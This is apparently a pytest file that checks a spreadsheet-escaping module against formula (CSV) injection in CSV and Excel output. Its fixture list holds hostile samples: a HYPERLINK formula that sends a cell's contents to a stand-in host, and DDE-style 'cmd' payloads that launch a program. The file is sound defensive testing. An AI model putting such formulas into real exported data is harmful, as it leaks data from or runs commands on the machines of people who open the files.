"""Formula injection (issue 15): a text that a spreadsheet would run as a formula is written as text
in every CSV and workbook the project writes (dhr/safe_cells.py)."""

from __future__ import annotations

import csv
import io

import openpyxl
import polars as pl
import pytest

from dhr.safe_cells import escape_frame, escape_text, is_formula_like, protect_workbook

#: Texts a spreadsheet would run (OWASP "CSV injection": = + - @ tab CR at the start).
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_escaped_for_csv(text):
    assert is_formula_like(text)
    assert escape_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Train GP practices", "", "-3", "+4.5", "-1.25e3", "Review - done", 12, None, 3.5])
def test_ordinary_values_and_plain_numbers_are_left_alone(value):
    assert escape_text(value) == value


def test_escape_frame_escapes_text_columns_only():
    frame = pl.DataFrame({"label": [*HOSTILE, "Kent", None], "n": list(range(len(HOSTILE) + 2))})
    out = escape_frame(frame)
    assert out.get_column("label").to_list() == [*("'" + t for t in HOSTILE), "Kent", None]
    assert out.get_column("n").to_list() == frame.get_column("n").to_list()
    text = out.write_csv()
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert not is_formula_like(row[0])


def test_protect_workbook_turns_formula_like_text_into_text_cells(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for text in HOSTILE:
        ws.append([text, "ordinary", -3])
    protect_workbook(wb)
    path = tmp_path / "out.xlsx"
    wb.save(path)
    back = openpyxl.load_workbook(path).active
    for row, text in zip(back.iter_rows(), HOSTILE, strict=True):
        cell = row[0]
        assert cell.data_type == "s" and cell.value.strip() == text.strip()  # text, never a formula
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited
        assert row[1].value == "ordinary" and not row[1].quotePrefix
        assert row[2].value == -3
